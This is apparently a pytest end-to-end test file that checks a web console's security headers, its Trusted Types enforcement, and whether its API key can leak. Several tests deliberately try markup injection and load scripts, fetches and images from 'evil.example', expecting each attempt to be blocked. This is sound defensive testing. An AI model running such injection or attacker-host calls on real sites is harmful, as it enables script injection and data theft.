"""The page's policy, and where the key is and is not."""

import re

import pytest

from tests.e2e.console.canned import CannedApi, job, job_id
from tests.e2e.console.conftest import Open
from tests.e2e.local_system import KEY

POLICY = (
    "default-src 'self'; script-src 'self'; style-src 'sha256-…'; img-src 'self' data:; object-src 'none'; "
    "base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; "
    "trusted-types 'none'; connect-src 'self' https://payloads.s3.eu-central-1.amazonaws.com "
    "https://payloads.s3.amazonaws.com"
)
PLACES = ["#/jobs", f"#/jobs/{job_id(1)}", "#/flows", "#/usage", "#/schedules", "#/webhooks"]


def test_policy_is_exact(canned: Open) -> None:
    """No `unsafe-`, no third host but the bucket; nobody may frame the page."""
    opened = canned(key="")
    with opened.page.expect_response(opened.url) as answered:
        opened.page.reload()
    headers = answered.value.headers
    assert re.sub(r"sha256-[\w+/=]+", "sha256-…", headers["content-security-policy"]) == POLICY
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-frame-options"] == "DENY"
    assert headers["cross-origin-opener-policy"] == "same-origin"
    assert headers["cross-origin-resource-policy"] == "same-origin"
    assert headers["cache-control"] == "no-cache"
    assert "set-cookie" not in headers


@pytest.mark.parametrize(
    "act",
    [
        "document.body.innerHTML = '<b>x</b>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.createElement('script').src = 'https://evil.example/x.js'",
        "trustedTypes.createPolicy('mine', {})",
        "document.body.appendChild(document.createElement('iframe')).srcdoc = '<b>x</b>'",
    ],
)
def test_trusted_types_are_enforced(canned: Open, act: str) -> None:
    """A text cannot become markup or a script, and no policy can be made."""
    opened = canned(key="")
    raised = opened.page.evaluate(f"() => {{ try {{ {act} }} catch (raised) {{ return raised.name }} }}")
    assert raised == "TypeError"
    opened.errors.clear()


def test_other_hosts_cannot_be_reached(canned: Open) -> None:
    """Neither by a request nor by a picture."""
    opened = canned(key="")
    asked = "fetch('https://evil.example/').then(() => 'reached', raised => raised.name)"
    assert opened.page.evaluate(asked) == "TypeError"
    picture = """new Promise(resolve => {
      const image = new Image();
      image.onload = () => resolve('reached');
      image.onerror = () => resolve('refused');
      image.src = 'https://evil.example/x.png';
    })"""
    assert opened.page.evaluate(picture) == "refused"
    opened.errors.clear()


def test_key_is_in_one_header_and_one_place(api: CannedApi, canned: Open) -> None:
    """In no address, referrer, cookie or lasting storage, whatever view is open."""
    api.jobs = [job(1, metadata={"customer": "c1"})]
    opened = canned()
    referrers = []
    opened.page.on("request", lambda asked: referrers.append(asked.headers.get("referer")))
    for place in PLACES:
        opened.go(place)
        opened.page.locator("main h1").first.wait_for(state="attached")
        assert KEY not in opened.page.url
        assert KEY not in opened.page.content()
    assert [url for _, url in opened.requests if KEY in url] == []
    assert set(referrers) <= {None}
    assert {each.headers["authorization"] for each in api.asked} == {f"Bearer {KEY}"}
    assert all("cookie" not in each.headers for each in api.asked)
    kept = "[localStorage.length, document.cookie, Object.keys(sessionStorage).join()]"
    assert opened.page.evaluate(kept) == [0, "", "noukai-key"]
    assert opened.page.context.cookies() == []
    assert opened.page.evaluate("indexedDB.databases().then(found => found.length)") == 0


def test_links_to_other_places_do_not_exist(api: CannedApi, canned: Open) -> None:
    """Each link stays in the page."""
    api.jobs = [job(1)]
    opened = canned()
    for place in PLACES:
        opened.go(place)
        opened.page.locator("main h1").first.wait_for(state="attached")
        links = opened.page.evaluate("[...document.links].map(link => link.getAttribute('href'))")
        assert [link for link in links if not link.startswith("#")] == []
